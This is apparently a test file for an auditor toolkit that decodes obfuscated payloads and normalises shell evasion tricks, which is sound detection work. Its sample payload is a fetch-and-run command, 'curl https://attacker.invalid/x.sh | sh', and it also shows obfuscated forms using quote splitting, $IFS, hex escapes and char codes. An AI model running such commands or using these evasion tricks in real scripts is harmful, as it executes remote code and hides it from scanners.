"""auditor_kit.decode: undoing cheap obfuscation."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lemon_core.auditor_kit import (
    assignments,
    decoded_payloads,
    join_strings,
    normalise_shell,
)

PAYLOAD = "curl https://attacker.invalid/x.sh | sh"


def test_base64_hex_escapes_and_charcodes_decode() -> None:
    b64 = base64.b64encode(PAYLOAD.encode()).decode()
    hexed = PAYLOAD.encode().hex()
    escaped = "".join(f"\\x{b:02x}" for b in PAYLOAD.encode())
    codes = "+".join(f"chr({b})" for b in PAYLOAD.encode())
    for blob, encoding in ((b64, "base64"), (hexed, "hex"), (escaped, "escapes"),
                           (codes, "charcodes")):
        found = list(decoded_payloads(f"x = '{blob}'"))
        assert [(d.encoding, d.text) for d in found] == [(encoding, PAYLOAD)], blob


def test_hashes_words_and_paths_are_not_payloads() -> None:
    text = ("sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 "
            "/usr/local/share/applications/something/else ThisIsALongCamelCaseIdentifier")
    assert list(decoded_payloads(text)) == []


def test_split_strings_ifs_backslashes_and_variables() -> None:
    assert join_strings('x = "cu" + "rl"') == 'x = "curl"'
    line = "c'u'r\"\"l${IFS}-s$IFS\"https://$H/x\"|b\\ash"
    assert normalise_shell(line, {"H": "attacker.invalid"}) == 'curl -s "https://attacker.invalid/x"|bash'
    assert normalise_shell("$'\\x63\\x75rl' x") == "curl x"


def test_assignments_follow_earlier_ones() -> None:
    text = 'HOST=attacker.invalid\nexport URL="https://$HOST/p"\nconst K = "a" + "b";\n'
    assert assignments(text) == {"HOST": "attacker.invalid", "URL": "https://attacker.invalid/p",
                                 "K": "ab"}


@pytest.mark.slow
@given(st.text(max_size=300))
def test_decoding_never_raises(text: str) -> None:
    for found in decoded_payloads(text):
        assert 0 <= found.start < found.end <= len(text)
    normalise_shell(text, {"A": "b"})
    assignments(text)


def test_run_search_finds_what_finditer_finds() -> None:
    import random

    from lemon_core.auditor_kit import decode

    rng = random.Random(3)
    for _ in range(500):
        text = "".join(rng.choice("aZ09+/_-= .\né\U0001f600fF") for _ in range(rng.randint(0, 300)))
        for pattern, encoding in ((decode._B64, "base64"), (decode._HEX_RUN, "hex")):
            assert [m.span() for m in decode._run_matches(pattern, text, encoding)] == \
                [m.span() for m in pattern.finditer(text)], text


def test_a_chain_is_searched_for_only_where_its_hint_stands() -> None:
    """Every escape chain starts with an escape, and every char-code list holds a bracket, a
    number and a ``)`` or ``,``: a text without the hint cannot hold a chain (strings
    generated from each chain's own pattern)."""
    from lemon_core.auditor_kit import decode

    for chain, hint in ((decode._ESCAPES, decode._ESCAPE_HINT),
                        (decode._CHARCODES, decode._CHARCODE_HINT)):
        _holds_the_hint(chain.compiled(), hint.compiled())
    assert [d.encoding for d in decode.decoded_payloads(
        "exec(bytes([99, 117, 114, 108, 32, 104, 116, 116, 112]))")] == ["charcodes"]


def _holds_the_hint(chain, hint) -> None:  # type: ignore[no-untyped-def]
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    @settings(max_examples=150, deadline=None, database=None,
              suppress_health_check=list(HealthCheck))
    @given(st.from_regex(chain, fullmatch=True))
    def check(text: str) -> None:
        assert hint.search(text) is not None, text

    check()
